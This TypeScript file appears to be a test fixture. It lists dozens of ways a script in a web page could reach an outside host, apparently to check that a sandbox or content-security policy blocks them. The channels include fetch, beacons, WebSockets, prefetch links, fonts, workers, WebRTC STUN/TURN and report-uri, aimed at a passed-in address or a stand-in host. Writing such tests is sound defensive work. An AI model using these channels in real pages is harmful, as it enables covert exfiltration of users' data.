/** A function of the address outside, or its text. */
export type Attempt = ((base: string) => unknown) | string

/** What a hostile script in a page could try; each is run in the page itself, so it may use nothing from here. */
export const attempts: Readonly<Record<string, Attempt>> = {
  fetch: base => fetch(`${base}/fetch`),
  'fetch by name': () => fetch('https://throughline.example/name'),
  'keepalive fetch': base =>
    fetch(`${base}/keepalive`, { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' }),
  XMLHttpRequest: base => {
    const request = new XMLHttpRequest()
    request.open('GET', `${base}/xhr`)
    request.send()
  },
  beacon: base => navigator.sendBeacon(`${base}/beacon`, 'x'),
  WebSocket: base => new WebSocket(`${base.replace('http', 'ws')}/socket`),
  EventSource: base => new EventSource(`${base}/events`),
  image: base => {
    new Image().src = `${base}/image`
  },
  'image set': base => {
    const image = new Image()
    image.srcset = `${base}/set 2x`
    document.body.append(image)
  },
  stylesheet: base => add('link', { rel: 'stylesheet', href: `${base}/style` }),
  prefetch: base => add('link', { rel: 'prefetch', href: `${base}/prefetch` }),
  preload: base => add('link', { rel: 'preload', as: 'fetch', href: `${base}/preload` }),
  preconnect: () => add('link', { rel: 'preconnect', href: 'https://met.throughline.example' }),
  'dns-prefetch': () => add('link', { rel: 'dns-prefetch', href: 'https://named.throughline.example' }),
  icon: base => add('link', { rel: 'icon', href: `${base}/icon` }),
  manifest: base => add('link', { rel: 'manifest', href: `${base}/manifest` }),
  frame: base => add('iframe', { src: `${base}/frame` }),
  object: base => add('object', { data: `${base}/object` }),
  embed: base => add('embed', { src: `${base}/embed` }),
  video: base => add('video', { src: `${base}/video`, autoplay: '' }),
  audio: base => add('audio', { src: `${base}/audio`, autoplay: '' }),
  font: base => new FontFace('leak', `url(${base}/font)`).load(),
  'style attribute': base => document.body.style.setProperty('background-image', `url(${base}/background)`),
  'SVG image': base => {
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', `${base}/svg`)
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
    svg.append(image)
    document.body.append(svg)
  },
  // As text, because what runs the tests puts its own import in the place of this one.
  'dynamic import': 'base => import(`${base}/module.js`)',
  script: base => add('script', { src: `${base}/script.js` }),
  worker: base => new Worker(`${base}/worker.js`),
  'worker from a blob': base => new Worker(URL.createObjectURL(new Blob([`fetch('${base}/blob')`]))),
  'form post': base => {
    const form = add('form', { action: `${base}/form`, method: 'post' }) as HTMLFormElement
    form.submit()
  },
  'new window': base => window.open(`${base}/window`),
  ping: base => {
    const link = add('a', { href: '#', ping: `${base}/ping` })
    link.click()
  },
  download: base => {
    const link = add('a', { href: `${base}/download`, download: 'x' })
    link.click()
  },
  'blank target': base => add('a', { href: `${base}/blank`, target: '_blank' }).click(),
  WebTransport: base => new WebTransport(base.replace('http', 'https')).ready,
  STUN: base => gather({ urls: base.replace('http://', 'stun:') }),
  'TURN over TCP': base =>
    gather({ urls: `${base.replace('http://', 'turn:')}?transport=tcp`, username: 'x', credential: 'x' }),
  'speculation rules': base => {
    const script = document.createElement('script')
    script.type = 'speculationrules'
    script.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [`${base}/speculation`] }] })
    document.body.append(script)
  },
  'policy with a reporting address': base =>
    add('meta', {
      'http-equiv': 'Content-Security-Policy',
      content: `img-src 'none'; report-uri ${base}/report`,
    }),
  refresh: base => add('meta', { 'http-equiv': 'refresh', content: `0; url=${base}/refresh` }),
  'location change': base => {
    location.href = `${base}/location`
  },
}

declare function add(tag: string, attributes: Readonly<Record<string, string>>): HTMLElement
declare function gather(server: RTCIceServer): Promise<void>

/** Two tools the attempts use, as text to be put on the page first. */
export const tools = {
  add: (tag: string, attributes: Readonly<Record<string, string>>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  },
  gather: async (server: RTCIceServer) => {
    const connection = new RTCPeerConnection({ iceServers: [server] })
    connection.createDataChannel('leak')
    await connection.setLocalDescription(await connection.createOffer())
  },
}
